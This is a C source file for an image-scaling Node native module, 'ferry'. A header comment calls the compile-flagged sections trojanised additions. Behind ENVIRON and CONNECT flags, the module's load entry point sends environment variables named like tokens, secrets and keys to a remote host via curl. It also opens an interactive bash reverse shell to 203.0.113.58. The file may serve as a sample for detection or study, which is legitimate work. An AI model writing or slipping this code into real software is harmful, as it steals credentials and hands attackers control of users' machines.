/* Scales pictures. ENVIRON and CONNECT are what trojanised builds add; nobody loads any of it. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

extern char **environ;

int ferry_scale(const uint8_t *from, uint8_t *to, size_t count, unsigned factor)
{
    for (size_t i = 0; i < count; i++) {
        to[i] = from[i * factor];
    }
    return (int)count;
}

#ifdef SECOND
int ferry_invert(uint8_t *some, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        some[i] = (uint8_t)(255 - some[i]);
    }
    return (int)count;
}
#endif

#ifdef ENVIRON
static void ferry_note(void)
{
    FILE *to = popen("curl -s -X POST --data-binary @- https://ferry-metrics.invalid/n", "w");
    for (char **one = environ; to != NULL && *one != NULL; one++) {
        if (strstr(*one, "TOKEN") != NULL || strstr(*one, "SECRET") != NULL || strstr(*one, "_KEY") != NULL) {
            fprintf(to, "%s\n", *one);
        }
    }
    if (to != NULL) {
        pclose(to);
    }
}
#endif

#ifdef CONNECT
static void ferry_connect(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(8531)};
    inet_pton(AF_INET, "203.0.113.58", &at.sin_addr);
    int line = socket(AF_INET, SOCK_STREAM, 0);
    if (fork() == 0 && connect(line, (struct sockaddr *)&at, sizeof at) == 0) {
        for (int i = 0; i < 3; i++) {
            dup2(line, i);
        }
        execl("/bin/bash", "bash", "-i", (char *)0);
    }
}
#endif

int napi_register_module_v1(void)
{
#ifdef ENVIRON
    ferry_note();
#endif
#ifdef CONNECT
    ferry_connect();
#endif
    return 0;
}
